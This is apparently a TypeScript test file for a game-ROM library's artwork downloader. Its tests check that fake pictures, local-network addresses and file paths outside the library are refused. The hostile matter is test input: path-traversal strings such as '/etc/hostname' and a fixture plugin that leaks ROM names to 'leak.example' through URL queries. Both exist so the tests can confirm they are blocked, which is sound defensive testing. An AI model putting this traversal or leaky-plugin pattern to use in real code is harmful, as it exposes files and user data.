import { access, mkdir, mkdtemp, readdir, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import sharp from 'sharp'
import t from 'tap'
import { startServer } from '../../core/http/server.ts'
import type { PluginPackage } from '../../../core/loader/packages/packages.ts'
import { SERVER_DIR } from '../../../core/server-dir.ts'
import { resetScripts, scriptOf } from '../fixtures/script.ts'
import { until } from '../../until.ts'
import { buildScanTest } from './support.ts'

const picture = (width: number, height: number, format: 'png' | 'jpeg' = 'png') =>
  sharp({ create: { width, height, channels: 3, background: '#336699' } }).toFormat(format).toBuffer()
const PNG = await picture(300, 400)
const TALL = await picture(600, 1_200, 'jpeg')
const PDF = Buffer.from('%PDF-1.7\nsmall\n%%EOF\n')

const FILES: Record<string, [type: string, content: Buffer]> = {
  '/cover.png': ['image/png', PNG],
  '/tall.bin': ['application/octet-stream', TALL],
  '/page.png': ['text/html', Buffer.from('<html>Sign in first</html>')],
  '/lie.png': ['image/png', Buffer.from('<html>Sign in first</html>')],
  '/vector.svg': ['image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')],
  '/cut.png': ['image/png', PNG.subarray(0, PNG.length / 2)],
  '/manual.pdf': ['application/pdf', PDF],
  '/manual.html': ['application/octet-stream', Buffer.from('<html>')]
}

const server = await startServer(t, (request, response) => {
  const [type, content] = FILES[request.url ?? ''] ?? []
  if (request.url === '/broken.png') {
    response.writeHead(200, { 'content-type': 'image/png', 'content-length': '100000' })
    response.write(PNG)
    response.destroy()
  } else if (content === undefined) {
    response.writeHead(404).end()
  } else {
    response.writeHead(200, { 'content-type': type }).end(content)
  }
})
const stranger = await startServer(t, (_request, response) => { response.writeHead(200, { 'content-type': 'image/png' }).end(PNG) })

const test = await buildScanTest(t, {
  config: { filesystem: { skip_hash_calculation: true }, plugins: { pictures: { base_url: server.url } } }
})
const { put, scan, rom, dataDir } = test
const alpha = scriptOf('alpha')
const pictures = scriptOf('pictures')
const resources = join(dataDir, 'resources')
let count = 0

t.beforeEach(resetScripts)

const exists = (path: string | null) => access(join(resources, path ?? 'nowhere')).then(() => true, () => false)

/** Lists the files in the artwork folder of a ROM, at any depth. */
async function listFiles (): Promise<string[]> {
  const entries = await readdir(resources, { recursive: true, withFileTypes: true }).catch(() => [])
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name))
}

async function scanOne (media: { kind: 'cover' | 'screenshot' | 'manual' | 'video', url: string }[], payload: object = {}) {
  const folder = `platform ${count++}`
  await put({ [`roms/${folder}/Game.bin`]: 'game' })
  pictures.identify = () => ({ id: 'p', media })
  const status = await scan({ platform_fs_slugs: [folder], ...payload })
  return { folder, status, stored: await rom(folder, 'Game.bin') }
}

t.test('a cover from a private service that the operator configured gets a small copy', async (t) => {
  const { stored } = await scanOne([{ kind: 'cover', url: `${server.url}/cover.png` }])
  t.match(stored, { url_cover: `${server.url}/cover.png`, path_cover_large: /\/cover\/big\.png$/, path_cover_small: /\/cover\/small\.png$/ })
  const small = await sharp(join(resources, stored.path_cover_small ?? '')).metadata()
  t.match(small, { width: 120, height: 160 }, '40 % of a cover that is not tall')
  t.match(await sharp(join(resources, stored.path_cover_large ?? '')).metadata(), { width: 300, height: 400 })
})

t.test('a tall cover shrinks to a fifth, and its extension follows its content', async (t) => {
  const { stored } = await scanOne([{ kind: 'cover', url: `${server.url}/tall.bin` }])
  t.match(stored.path_cover_large, /big\.jpg$/)
  t.match(await sharp(join(resources, stored.path_cover_small ?? '')).metadata(), { width: 120, height: 240, format: 'jpeg' })
})

t.test('a file that is no picture is refused, whatever its name, and leaves no file', async (t) => {
  for (const name of ['page.png', 'lie.png', 'vector.svg', 'cut.png', 'broken.png', 'absent.png']) {
    const before = await listFiles()
    const { stored, status } = await scanOne([{ kind: 'cover', url: `${server.url}/${name}` }])
    t.equal(status.status, 'finished', name)
    t.match(stored, { path_cover_large: null, path_cover_small: null }, name)
    t.same(await listFiles(), before, name)
  }
})

t.test('a bad screenshot does not stop the other ones', async (t) => {
  const { stored } = await scanOne(['cover.png', 'page.png', 'tall.bin'].map((name) => ({ kind: 'screenshot', url: `${server.url}/${name}` })))
  t.match(stored.path_screenshots, [/screenshots\/0\.png$/, /screenshots\/2\.jpg$/])
  for (const path of stored.path_screenshots) t.ok(await exists(path), path)
})

t.test('V14: a manual that is no PDF is refused', async (t) => {
  const { stored } = await scanOne([{ kind: 'manual', url: `${server.url}/manual.pdf` }])
  t.ok(await exists(stored.path_manual))
  const { stored: other } = await scanOne([{ kind: 'manual', url: `${server.url}/manual.html` }])
  t.equal(other.path_manual, null)
})

t.test('addresses in the local network are not requested unless configured', async (t) => {
  const { stored, status } = await scanOne([{ kind: 'cover', url: `${stranger.url}/cover.png` }])
  t.equal(status.status, 'finished')
  t.equal(stored.path_cover_large, null)
  t.same(stranger.requests, [])
})

t.test('artwork inside the library is copied; artwork outside of it is not', async (t) => {
  await put({ 'roms/art/images/Game.png': PNG, 'roms/art/Game.bin': 'game' })
  pictures.identify = () => ({ id: 'p', media: [{ kind: 'cover', url: 'file://roms/art/images/Game.png' }] })
  await scan({ platform_fs_slugs: ['art'] })
  t.ok(await exists((await rom('art', 'Game.bin')).path_cover_large))
  for (const path of ['../data/secret.png', '/etc/hostname', 'roms/art/../../../x.png']) {
    const { stored } = await scanOne([{ kind: 'cover', url: `file://${path}` }])
    t.equal(stored.path_cover_large, null, path)
  }
})

t.test('update keeps a stored cover; complete drops all artwork', async (t) => {
  const { folder, stored } = await scanOne([{ kind: 'cover', url: `${server.url}/cover.png` }])
  alpha.identify = () => ({ id: 1, media: [{ kind: 'cover', url: `${server.url}/tall.bin` }] })
  await scan({ type: 'unmatched', apis: ['alpha'], platform_fs_slugs: [folder] })
  t.match(await rom(folder, 'Game.bin'), { url_cover: `${server.url}/cover.png`, path_cover_large: stored.path_cover_large })
  await scan({ type: 'complete', apis: ['alpha'], platform_fs_slugs: [folder] })
  t.match(await rom(folder, 'Game.bin'), { url_cover: `${server.url}/tall.bin`, path_cover_large: /big\.jpg$/ })
  t.notOk(await exists(stored.path_cover_large), 'the file of the old cover is gone')
  await scan({ type: 'complete', apis: [], platform_fs_slugs: [folder] })
  t.match(await rom(folder, 'Game.bin'), { url_cover: null, path_cover_large: null, path_cover_small: null })
  t.same((await listFiles()).filter((file) => file.includes(`/${stored.id}/`)), [])
})

t.test('a scan of hashes fetches no media', async (t) => {
  const { stored } = await scanOne([{ kind: 'cover', url: `${server.url}/cover.png` }], { type: 'hashes' })
  t.match(stored, { url_cover: `${server.url}/cover.png`, path_cover_large: null })
})

t.test('a cover whose file was lost is fetched again by the next lookup', async (t) => {
  const { folder, stored } = await scanOne([{ kind: 'cover', url: `${server.url}/cover.png` }])
  await rm(join(resources, stored.path_cover_large ?? ''))
  alpha.identify = () => ({ id: 1 })
  await scan({ type: 'unmatched', apis: ['alpha'], platform_fs_slugs: [folder] })
  t.ok(await exists((await rom(folder, 'Game.bin')).path_cover_large))
})

t.test('a PICO-8 cartridge is its own cover until a provider has one', async (t) => {
  await put({ 'roms/pico-8/Cart.p8.png': PNG, 'roms/pico-8/Other.p8.png': Buffer.from('no picture') })
  await scan({ platform_fs_slugs: ['pico-8'], apis: [] })
  const own = await rom('pico-8', 'Cart.p8.png')
  t.match(own, { url_cover: 'file://roms/pico-8/Cart.p8.png', path_cover_large: /big\.png$/, path_cover_small: /small\.png$/ })
  t.match(await rom('pico-8', 'Other.p8.png'), { path_cover_large: null })
  pictures.identify = () => ({ id: 'p', media: [{ kind: 'cover', url: `${server.url}/tall.bin` }] })
  await scan({ type: 'unmatched', platform_fs_slugs: ['pico-8'], apis: ['pictures'] })
  t.match(await rom('pico-8', 'Cart.p8.png'), { url_cover: `${server.url}/tall.bin`, path_cover_large: /big\.jpg$/ })
})

/** A community provider that sends what it knows of a ROM to other hosts, as part of the URLs of its media. */
const LEAKY = `import { defineProvider } from '@svc/plugin-sdk'
  export default defineProvider({
    key: 'leaky',
    name: 'Leaky',
    id: 'string',
    identify: async ({ fs_name: name }) => ({
      id: name,
      media: [
        { kind: 'cover', url: 'https://pictures.example/cover.png' },
        { kind: 'screenshot', url: 'https://leak.example/cover.png?name=' + name },
        { kind: 'screenshot', url: 'https://leak.example/cover.png?again=' + name },
        { kind: 'screenshot', url: 'https://images.pictures.example/onward.png' }
      ]
    })
  })`

t.test('media of a community provider come only from hosts of its manifest', async (t) => {
  const gateway = await startServer(t, (request, response) => {
    const isOnward = request.url?.endsWith('/onward.png') === true
    if (isOnward) response.writeHead(302, { location: 'https://leak.example/redirected.png' }).end()
    else response.writeHead(200, { 'content-type': 'image/png' }).end(PNG)
  })
  const folder = await mkdtemp(join(tmpdir(), 'svc-leaky-'))
  t.teardown(() => rm(folder, { recursive: true }))
  await writeFile(join(folder, 'leaky.mjs'), LEAKY)
  await mkdir(join(folder, 'node_modules'))
  await symlink(join(SERVER_DIR, 'node_modules', '@svc'), join(folder, 'node_modules', '@svc'), 'junction')
  const leaky: PluginPackage = {
    folder,
    name: 'svc-provider-leaky',
    version: '1.0.0',
    manifest: { kind: 'provider', key: 'leaky', sdk: '^2', hosts: ['pictures.example', '*.pictures.example'] },
    entry: join(folder, 'leaky.mjs'),
    origin: 'community',
    problem: null
  }
  const lines: Record<string, unknown>[] = []
  const { put, scan, rom, problems } = await buildScanTest(t, {
    providers: [],
    packages: [leaky],
    config: { outgoing: { gateway: gateway.url } },
    log: (line) => { lines.push(line) }
  })
  await put({ 'roms/nes/One.nes': 'one', 'roms/nes/Two.nes': 'two' })
  const status = await scan({ platform_fs_slugs: ['nes'] })
  t.match(await rom('nes', 'One.nes'), { path_cover_large: /big\.png$/, path_screenshots: [], ids: { leaky: 'One.nes' } })
  t.same([...new Set(gateway.requests)].sort(),
    ['GET /images.pictures.example/onward.png', 'GET /pictures.example/cover.png'])
  t.match(lines.filter(({ msg }) => msg === 'media of this plugin are skipped'), [
    { plugin: 'svc-provider-leaky', host: 'leak.example', reason: /svc\.hosts/ }
  ], 'one warning for four URLs')
  t.match(problems(status), [/2 artwork files.*'leak\.example'.*svc\.hosts/], 'redirects')
})

t.test('a ROM that is trashed during its rematch comes back with its cover', async (t) => {
  const media = [{ kind: 'cover' as const, url: `${server.url}/cover.png` }]
  const { folder, stored } = await scanOne(media)
  t.not(stored.path_cover_large, null)
  const [asked, answer] = [Promise.withResolvers<void>(), Promise.withResolvers<null>()]
  pictures.identify = async () => {
    asked.resolve()
    return await answer.promise
  }
  const rematch = await test.start({ type: 'complete', roms_ids: [stored.id] })
  await asked.promise
  const call = (method: 'GET' | 'POST', url: string, payload: object = {}) => test.app.inject({
    method, url, headers: test.admin, ...(method === 'POST' ? { payload } : {})
  })
  await call('POST', '/api/roms/delete', { roms: [stored.id], delete_from_fs: [stored.id] })
  answer.resolve(null)
  await test.finished(rematch)
  pictures.identify = () => ({ id: 'p', media })
  const { items } = (await call('GET', '/api/trash')).json<{ items: { id: number, rom_id: number }[] }>()
  const item = items.find(({ rom_id: id }) => id === stored.id)
  t.match((await call('POST', '/api/trash/restore', { items: [item?.id] })).json(), { successful_items: 1 })
  const cover = await until(async () => (await rom(folder, 'Game.bin')).path_cover_large, 'the cover')
  t.equal(await exists(cover), true)
})
